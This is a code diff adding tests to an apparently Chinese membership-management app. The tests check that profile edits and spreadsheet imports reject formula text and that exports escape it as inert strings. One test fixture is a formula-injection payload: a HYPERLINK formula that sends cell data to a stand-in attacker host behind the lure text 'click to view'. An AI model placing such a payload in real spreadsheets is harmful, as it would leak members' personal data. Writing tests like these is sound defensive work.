@@ -302,3 +302,78 @@ def test_staff_only(http, persona, make_member):
     assert http.get("/members/import-template", me, accept=XLSX).status == 403
     assert http.get("/members/export", me, accept=XLSX).status == 403
     assert http.post("/members/imports", me, b"x").status == 403
+
+
+# -- formula (CSV) injection ------------------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&C2&D2,"点击查看")'
+
+
+def _text_cells(template: bytes, rows: list[dict[str, object]]) -> bytes:
+    """Like `fill`, but every value is a string cell, as text typed into the text-formatted template."""
+    wb = load_workbook(io.BytesIO(template))
+    ws = wb[excel.DATA_SHEET]
+    cols = {str(c.value).rstrip("*"): c.column for c in ws[1]}
+    labels = {f.key: f.label for f in FIELDS}
+    for i, row in enumerate(rows, start=2):
+        for key, value in row.items():
+            cell = ws.cell(row=i, column=cols[labels[key]], value=value)
+            cell.data_type = "s"
+    buf = io.BytesIO()
+    wb.save(buf)
+    return buf.getvalue()
+
+
+def test_member_cannot_store_a_formula_and_export_cells_are_inert_text(http, staff, persona, make_member):
+    m = make_member("110000")
+    me = persona("member", member_no=m.member_no)
+    r = http.patch("/me", me, {"version": 1, "changes": {"employer": HYPERLINK}})
+    assert r.status == 422, r.body
+    assert "公式" in str(r.body)
+    # Whatever is stored already (older data, other channels) is exported as inert text.
+    for key, value in (("employer", HYPERLINK), ("address", "\t=1+1"), ("office_phone", "+86 010-88888888"),
+                       ("hukou_location", "-")):
+        stored = MemberModel.get(m.member_no)
+        profile = stored.profile.as_dict() if hasattr(stored.profile, "as_dict") else dict(stored.profile)
+        stored.profile = {**profile, key: value}
+        stored.save()
+    r = http.get("/members/export", staff, accept=XLSX)
+    assert r.status == 200
+    ws = load_workbook(io.BytesIO(r.raw)).worksheets[0]
+    header = [c.value for c in ws[1]]
+    row = {h: c for h, c in zip(header, ws[2])}
+    cells = [c for c in ws[2]]
+    assert all(c.data_type != "f" for c in cells)
+    assert row["工作单位"].value == "'" + HYPERLINK and row["工作单位"].data_type == "s"
+    assert row["通讯地址"].value == "'\t=1+1"
+    assert row["办公电话"].value == "+86 010-88888888"  # inert: kept readable in a string cell
+    assert row["户口所在地"].value == "-"
+    # The export comes back through import with its escapes undone: the stored formula in
+    # 工作单位 is unchanged (an import validates what it changes), while the tab-led address
+    # is trimmed on import, so it is a change, and refused like any new formula text.
+    back = upload(http, staff, r.raw)
+    assert [(e["column"], "公式" in e["message"]) for e in back.body["errors"]] == [("通讯地址", True)]
+
+
+def test_import_refuses_formula_text_per_cell_and_keeps_phone_numbers(http, staff):
+    rows = fake_rows(3, seed=21)
+    rows[0]["employer"] = "=1+1"
+    rows[1]["address"] = "\t=1+1"
+    rows[1]["employer"] = "@SUM(A1:A9)"
+    rows[2]["office_phone"] = "+86 010-88888888"
+    rows[2]["employer"] = "-"
+    r = upload(http, staff, _text_cells(template_bytes(http, staff), rows))
+    assert r.status == 200, r.body
+    found = {(e["row"], e["column"]): e["message"] for e in r.body["errors"]}
+    assert set(found) == {(2, "工作单位"), (3, "通讯地址"), (3, "工作单位")}
+    assert all("不能以 = + - @ 开头" in message for message in found.values())
+    assert r.body["create"] == 1
+
+
+def test_bulk_report_csv_escapes_formulas_behind_spaces():
+    from chalicelib.cert.bulk import _excel_safe
+
+    assert _excel_safe(" =1+1") == "' =1+1"
+    assert _excel_safe("\t=1+1") == "'\t=1+1"
+    assert _excel_safe("+86 10 8888 8888") == "'+86 10 8888 8888"  # CSV has no cell types
+    assert _excel_safe("张三") == "张三"
